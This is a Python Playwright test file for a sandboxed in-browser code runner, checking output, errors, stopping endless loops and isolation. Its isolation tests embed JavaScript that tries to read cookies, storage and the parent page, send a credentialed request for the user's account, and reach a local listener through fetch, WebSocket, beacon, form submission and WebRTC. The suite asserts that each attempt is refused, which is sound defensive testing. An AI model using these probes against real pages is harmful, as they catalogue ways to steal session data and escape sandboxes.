"""Code that somebody else wrote, run in one's own browser: shown, stopped, and kept inside."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import expect

from tests.browser.conftest import PeopleFactory
from tests.browser.person import Person
from tests.browser.waiting import wait_for_answer

pytestmark = pytest.mark.asyncio(loop_scope="session")


class Trap(asyncio.DatagramProtocol):
    """Listens on loopback for anybody who comes, over TCP or UDP."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.tcp = self.udp = 0

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.heard.append("a datagram")

    async def greet(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Note whoever connects, by what they say first."""
        self.heard.append((await reader.readline()).decode(errors="replace"))
        writer.close()


@asynccontextmanager
async def open_trap() -> AsyncIterator[Trap]:
    """Listen for the length of the block."""
    trap = Trap()
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(lambda: trap, local_addr=("127.0.0.1", 0))
    server = await asyncio.start_server(trap.greet, "127.0.0.1", 0)
    trap.udp = transport.get_extra_info("sockname")[1]
    trap.tcp = server.sockets[0].getsockname()[1]
    try:
        yield trap
    finally:
        server.close()
        transport.close()


async def _with_code(people: PeopleFactory, title: str, language: str, text: str) -> Person:
    person = await people.member()
    stream = await person.ask_server("POST", "/streams", {"title": "To be run"})
    await person.page.goto(f"/streams/{stream['id']}")
    await person.open_code(title, language)
    await person.type_code(text)
    return person


def _forgive_refusals(person: Person) -> None:
    """What the browser refuses it also logs."""
    person.errors[:] = [
        each
        for each in person.errors
        if "Content Security Policy" not in each and "sandbox" not in each.lower()
    ]


async def test_script_says_what_it_computes_and_where_it_fails(people: PeopleFactory) -> None:
    person = await _with_code(
        people,
        "sum.js",
        "javascript",
        "const sum = [1, 2, 3].reduce((a, b) => a + b);\n"
        "console.log('sum', sum, { of: ['é', 😀 = 1] });".replace("😀 = 1", "'😀'")
        + "\nconsole.warn('careful');\nmissing();",
    )
    await person.part("code-run").click()
    output = person.part("run-output")
    await expect(output).to_contain_text('sum 6 { of: ["é", "😀"] }')
    await expect(output.locator("[data-level=warn]")).to_contain_text("careful")
    error = output.locator("[data-level=error]")
    await expect(error).to_contain_text("missing is not defined")
    await expect(error.get_by_role("button")).to_have_text("sum.js:4")
    await expect(person.part("run-state")).to_have_text("Done")


async def test_error_of_syntax_has_its_line(people: PeopleFactory) -> None:
    person = await _with_code(people, "broken.js", "javascript", "let a = 1;\n\nlet b = = 2;")
    await person.part("code-run").click()
    error = person.part("run-output").locator("[data-level=error]")
    await expect(error).to_contain_text("SyntaxError")
    await expect(error.get_by_role("button")).to_have_text("broken.js:3")


@pytest.mark.parametrize(
    ("title", "language", "text"),
    [
        ("loop.js", "javascript", "while (true) {}"),
        ("flood.js", "javascript", "while (true) console.log('again')"),
        ("loop.html", "html", "<script>while (true) {}</script>"),
        ("flood.html", "html", "<script>while (true) console.log('again')</script>"),
    ],
)
async def test_endless_loop_is_stopped_and_holds_up_nobody(
    people: PeopleFactory, title: str, language: str, text: str
) -> None:
    person = await _with_code(people, title, language, text)
    await person.part("code-run").click()
    await expect(person.page.locator("iframe")).to_have_count(1)
    await person.say("still here")
    await person.part("run-stop").click()
    await expect(person.part("run-output").locator("[data-level=note]")).to_contain_text("Stopped")
    await expect(person.page.locator("iframe")).to_have_count(0)


SCRIPT = """// A script of the page's.
console.log(getComputedStyle(document.querySelector('h1')).color);
throw new Error('on purpose')"""


async def test_page_takes_its_scripts_and_styles_from_the_other_tabs(
    people: PeopleFactory,
) -> None:
    person = await _with_code(
        people,
        "page.html",
        "html",
        '<link rel="stylesheet" href="look.css">\n<h1>Hello</h1>\n<script src="code.js"></script>',
    )
    stream_id = person.page.url.rpartition("/")[2]
    for title, language, text in (
        ("look.css", "css", "h1 { color: rgb(1, 2, 3) }"),
        ("code.js", "javascript", SCRIPT),
    ):
        await person.open_code(title, language)
        await person.type_code(text)
    # What the other tabs hold is read from the server, which writes it when typing pauses.
    await wait_for_answer(
        person.page,
        """async stream => {
            const ask = async path => await (await fetch("/api/v1" + path)).json();
            const { code_sessions: all } = await ask("/streams/" + stream);
            const texts = await Promise.all(all.map(each => ask("/code-sessions/" + each.id)));
            return texts.every(each => each.code_content);
        }""",
        stream_id,
    )
    await person.page.get_by_role("tab", name="page.html").click()
    await person.part("code-run").click()
    await expect(person.page.frame_locator("iframe").get_by_role("heading")).to_have_text("Hello")
    output = person.part("run-output")
    await expect(output).to_contain_text("rgb(1, 2, 3)")
    await expect(output.locator("[data-level=error]")).to_contain_text("code.js:3")


ATTEMPTS = """
const tries = {
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  session: () => sessionStorage.length,
  parent: () => parent.document.title,
  address: () => parent.location.href,
  element: () => frameElement.id,
  database: () => new Promise((yes, no) => {
    const request = indexedDB.open("x");
    request.onsuccess = yes;
    request.onerror = () => no(new Error("refused"));
  }),
  caches: () => caches.open("x"),
  fetch: () => fetch(TRAP + "/fetch"),
  site: () => fetch(SITE + "/api/v1/users/me", { credentials: "include" }),
  request: () => new Promise((yes, no) => {
    const request = new XMLHttpRequest();
    request.onload = yes;
    request.onerror = () => no(new Error("refused"));
    request.open("GET", TRAP + "/request");
    request.send();
  }),
  socket: () => new Promise((yes, no) => {
    const socket = new WebSocket(TRAP.replace("http", "ws") + "/socket");
    socket.onopen = yes;
    socket.onerror = () => no(new Error("refused"));
  }),
  events: () => new Promise((yes, no) => {
    const events = new EventSource(TRAP + "/events");
    events.onopen = yes;
    events.onerror = () => no(new Error("refused"));
  }),
  import: () => import(TRAP + "/import.js"),
};
"""
ON_A_PAGE = """
const beside = {
  image: (yes, no) => Object.assign(new Image(), { onload: yes, onerror: no }).src = TRAP + "/i",
  script: (yes, no) => document.head.append(
    Object.assign(document.createElement("script"),
      { onload: yes, onerror: no, src: TRAP + "/s" })),
  style: (yes, no) => document.head.append(Object.assign(document.createElement("link"),
    { onload: yes, onerror: no, rel: "stylesheet", href: TRAP + "/css" })),
};
for (const [name, load] of Object.entries(beside)) tries[name] = () => new Promise(load);
tries.popup = () => { if (!window.open(TRAP + "/popup")) throw new Error("refused"); };
tries.top = () => { top.location = TRAP + "/top"; };
tries.dialog = () => { if (!confirm("?")) throw new Error("refused"); };
tries.beacon = () => { navigator.sendBeacon(TRAP + "/beacon"); throw new Error("never told"); };
tries.form = () => {
  const form = Object.assign(document.createElement("form"), { action: TRAP + "/form" });
  document.body.append(form);
  form.submit();
  throw new Error("never told");
};
const call = async (Peer) => {
  const peer = new Peer({ iceServers: [{ urls: "stun:127.0.0.1:" + UDP }] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((yes, no) => {
    peer.onicegatheringstatechange = () => {
      if (peer.iceGatheringState !== "complete") return;
      if (/candidate:/.test(peer.localDescription.sdp)) yes(); else no(new Error("refused"));
    };
    setTimeout(() => no(new Error("refused")), 1500);
  });
};
tries.call = () => call(RTCPeerConnection);
tries.innerCall = () => {
  const inner = document.createElement("iframe");
  document.body.append(inner);
  return call(inner.contentWindow.RTCPeerConnection);
};
tries.innerFrame = () => new Promise((yes, no) => {
  const inner = Object.assign(document.createElement("iframe"), { src: TRAP + "/inner" });
  document.body.append(inner);
  setTimeout(() => no(new Error("never told")), 500);
});
"""
AND_TELL = """
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt();
      console.log("REACHED", name);
    } catch {
      console.log("refused", name);
    }
  }
  console.log("tried", Object.keys(tries).length);
})();
"""


@pytest.mark.parametrize("language", ["javascript", "html"])
async def test_code_reaches_neither_cookies_nor_the_page_nor_the_network(
    people: PeopleFactory, language: str
) -> None:
    async with open_trap() as trap:
        person = await _with_code(people, "x", language, "")
        site = person.page.url.partition("/streams")[0]
        known = (
            f'const TRAP = "http://127.0.0.1:{trap.tcp}", SITE = {json.dumps(site)}, '
            f"UDP = {trap.udp};\n"
        )
        page = ON_A_PAGE if language == "html" else ""
        script = known + ATTEMPTS + page + AND_TELL
        if language == "html":
            script = "<body><script>" + script.replace("</", "<\\/") + "</script>"
        await person.type_code(script)
        await person.part("code-run").click()
        output = person.part("run-output")
        await expect(output).to_contain_text("tried", timeout=20_000)
        said = await output.inner_text()
        assert "REACHED" not in said, said
        assert trap.heard == []
        assert person.page.url.startswith(site)
        _forgive_refusals(person)


async def test_code_cannot_send_its_frame_elsewhere(people: PeopleFactory) -> None:
    async with open_trap() as trap:
        person = await _with_code(
            people,
            "x.html",
            "html",
            f"<script>console.log('going'); location = 'http://127.0.0.1:{trap.tcp}/away?all'"
            "</script>",
        )
        await person.part("code-run").click()
        await expect(person.part("run-output")).to_contain_text("going")
        await expect(person.part("run-state")).to_have_text("Stopped", timeout=15_000)
        assert trap.heard == []
        _forgive_refusals(person)
